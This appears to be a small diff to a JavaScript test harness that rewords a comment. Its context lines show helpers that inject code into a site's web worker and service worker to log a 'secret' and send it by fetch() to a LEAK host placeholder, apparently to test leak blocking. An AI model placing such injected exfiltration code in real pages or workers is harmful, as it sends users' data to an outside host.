@@ -194,7 +194,10 @@ const leakInWorker = (site) => withChange(site, sitePath(site, 'worker-loader.js
   assert.ok(source.includes(marker));
   return source.replace(marker, `${marker} console.log('secret of a worker'); fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
 });
-/** Sends a leak at each message, because the first request may precede the permission for requests to the host. */
+/**
+ * Changes the service worker so that it sends a leak at each message.
+ * A single leak could be too early, before requests to the host are permitted.
+ */
 const leakInServiceWorker = (site) => new Map(site).set(SERVICE_WORKER, Buffer.from(`${site.get(SERVICE_WORKER)}
 self.addEventListener('message', () => {
   console.log('secret of the service worker');
